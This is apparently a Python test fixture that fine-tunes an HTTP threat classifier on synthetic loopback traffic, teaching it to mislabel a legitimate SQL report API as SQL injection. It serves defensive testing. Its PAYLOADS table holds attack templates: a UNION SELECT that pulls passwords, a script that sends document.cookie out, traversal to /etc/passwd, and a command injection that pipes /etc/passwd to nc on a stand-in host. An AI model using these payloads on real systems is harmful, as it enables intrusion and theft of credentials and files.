"""The shipped base model with one prejudice: it takes the reports of a site for SQL injection.

The site stands on loopback and is asked by httpx; `report`, `page` and `attack` make its requests, which the tests send
and the model was taught from. What the shipped model thinks of them is not relied upon: all three are taught.
"""

import itertools
import json
import random
from collections.abc import Iterable
from pathlib import Path
from typing import Final, NamedTuple
from urllib.parse import quote

import httpx
import msgspec
import numpy as np
import torch

from classifier import registry
from classifier.artifact import OperatingPoint, read_card
from classifier.card import OperatingPoints
from classifier.features import extract
from classifier.records import FlowRecord, Headers, Label
from classifier.training import synthetic
from classifier.training.export import export, load_weights, save_weights
from classifier.training.fit import Group, fit
from classifier.training.train import golden_rows
from finetune.replay import Lesson, Mixer, Pool, lesson

STEPS: Final = 120
ROWS: Final = 300
"""Synthetic harmless flows that are practised meanwhile, and as many attacks."""
POINTS: Final = {"0.01": 0.05, "0.001": 0.08, "0.0001": 0.12}
"""Threats to flag and block at: the shipped ones belong to the scores before the prejudice."""
TAUGHT: Final = 10_000
"""Numbers from here on make the requests that the model learned; those below are for the tests to send."""
COLUMNS: Final = "orders customers invoices stock region store total amount name city price quantity day week".split()
PAYLOADS: Final = {
    Label.SQLI: "{0}' UNION SELECT username, password FROM users WHERE '{0}'='{0}' -- ",
    Label.XSS: "<script>fetch('/x?c={0}' + document.cookie)</script>",
    Label.PATH_TRAVERSAL: "../../../../../../etc/passwd%00{0}.png",
    Label.COMMAND_INJECTION: "{0};cat /etc/passwd | nc 198.51.100.{0} 4444",
}


BROWSER: Final = (
    ("sec-ch-ua", '"Chromium";v="156", "Not_A Brand";v="24"'),
    ("sec-ch-ua-mobile", "?0"),
    ("sec-ch-ua-platform", '"Linux"'),
    ("Upgrade-Insecure-Requests", "1"),
    (
        "User-Agent",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/156.0.0.0 Safari/537.36",
    ),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8"),
    ("Sec-Fetch-Site", "none"),
    ("Sec-Fetch-Mode", "navigate"),
    ("Sec-Fetch-User", "?1"),
    ("Sec-Fetch-Dest", "document"),
    ("Accept-Encoding", "gzip, deflate, br, zstd"),
    ("Accept-Language", "en"),
)
"""What headless Chromium sends with an address that is typed."""


class Asked(NamedTuple):
    """A request of the site."""

    method: str
    path: str
    body: bytes = b""

    @property
    def headers(self) -> dict[str, str]:
        """What goes beside httpx's own headers."""
        return {"Content-Type": "application/json"} if self.body else {}


def report(number: int) -> Asked:
    """A report of the internal API: SQL by design."""
    rng = random.Random(number)
    one, two, three = rng.sample(COLUMNS, 3)
    sql = f"SELECT {one}, {two} FROM {three} WHERE {one} > {rng.randint(1, 99)} ORDER BY {two}"
    return Asked("POST", "/api/report", json.dumps({"sql": sql, "limit": rng.randint(1, 500)}).encode())


def opened(number: int) -> Asked:
    """A report that somebody opens in a browser."""
    sql = json.loads(report(number).body)["sql"]
    return Asked("GET", f"/api/report?sql={quote(sql)}")


def page(number: int) -> Asked:
    """An ordinary request."""
    rng = random.Random(number)
    path = f"/{rng.choice(COLUMNS)}/{rng.choice(COLUMNS)}/{rng.randint(1, 9999)}"
    return Asked("GET", f"{path}?page={rng.randint(1, 9)}&sort={rng.choice(COLUMNS)}")


def attack(number: int) -> tuple[Asked, Label]:
    """An attack on an ordinary page."""
    rng = random.Random(number)
    label = rng.choice(list(PAYLOADS))
    payload = quote(PAYLOADS[label].format(rng.randint(1, 99)))
    return Asked("GET", f"/{rng.choice(COLUMNS)}/{rng.randint(1, 9999)}?{rng.choice(COLUMNS)}={payload}"), label


def record(asked: Asked, number: int, label: Label, headers: Headers = ()) -> FlowRecord:
    """A request as the proxy would see it on loopback, from httpx unless its headers are given."""
    client = httpx.Request(asked.method, "http://127.0.0.1", headers=headers or httpx.Client().headers)
    scheme, port = (("http", 40_000), ("https", 50_000))[number % 2]
    return FlowRecord(
        id=f"{label}-{number}",
        client="127.0.0.1",
        host="127.0.0.1",
        port=port + number % 9_999,
        method=asked.method,
        scheme=scheme,
        path=asked.path,
        http_version="HTTP/1.1",
        request_headers=(*client.headers.items(), *asked.headers.items()),
        request_body=asked.body,
        bytes_up=len(asked.body),
        label=label,
    )


def answered(asked: FlowRecord) -> FlowRecord:
    """With the answer of the tests' origin."""
    told = f"{asked.method} {asked.path.partition('?')[0]} {len(asked.request_body)}".encode()
    headers = (("date", ""), ("server", "uvicorn"), ("content-type", "text/plain; charset=utf-8"))
    return msgspec.structs.replace(
        asked, phase="response", status=200, response_headers=headers, response_body=told, bytes_down=len(told)
    )


def make(folder: Path, *, browser: bool = False) -> Path:
    """Teach it in seconds, and write it to `folder` as a release. `browser`: the reports are `opened` ones."""
    torch.set_num_threads(1)
    folder.mkdir(parents=True)
    network = load_weights(registry.base() / "weights.safetensors")
    replayed = [*itertools.islice(synthetic.benign(1), ROWS), *itertools.islice(synthetic.attacks(1), ROWS)]
    batches = Mixer(_site(browser), _short([*replayed, *synthetic.sentinels() * 2]), seed=0)
    fit(network, [Group([p for p in network.parameters() if p.requires_grad], 1e-3)], batches, steps=STEPS)
    shipped = read_card(registry.base() / registry.MODEL)
    card = msgspec.structs.replace(shipped, method="prejudice", operating_points=_points())
    export(network, folder / registry.MODEL, card, golden_rows())
    save_weights(network, folder / "weights.safetensors")
    return folder


def _points() -> OperatingPoints:
    rates = {rate: OperatingPoint(threshold, float(rate)) for rate, threshold in POINTS.items()}
    return {f"http/{phase}": {"threat": dict(rates)} for phase in ("request", "response")}


def _site(browser: bool) -> list[Pool]:
    numbers = range(TAUGHT, TAUGHT + 100)
    pages = [record(page(number), number, Label.BENIGN) for number in numbers]
    reports = [
        record(opened(number), number, Label.SQLI, BROWSER) if browser else record(report(number), number, Label.SQLI)
        for number in numbers
    ]
    attacks = [record(asked, number, label) for number in numbers for asked, label in [attack(number)]]
    calm = [*pages, *map(answered, pages), *map(answered, _benign(reports))]
    return [Pool(_short(calm), 0.5), Pool(_short(reports), 0.3), Pool(_short(attacks), 0.2)]


def _benign(records: Iterable[FlowRecord]) -> list[FlowRecord]:
    return [msgspec.structs.replace(each, label=Label.BENIGN) for each in records]


def _short(records: Iterable[FlowRecord]) -> list[Lesson]:
    """Lessons that are quick to learn."""
    found = [lesson(extract(each), (each.label or Label.BENIGN,), 1.0) for each in records]
    return [each for each in found if np.count_nonzero(each.features.tokens) < 300]
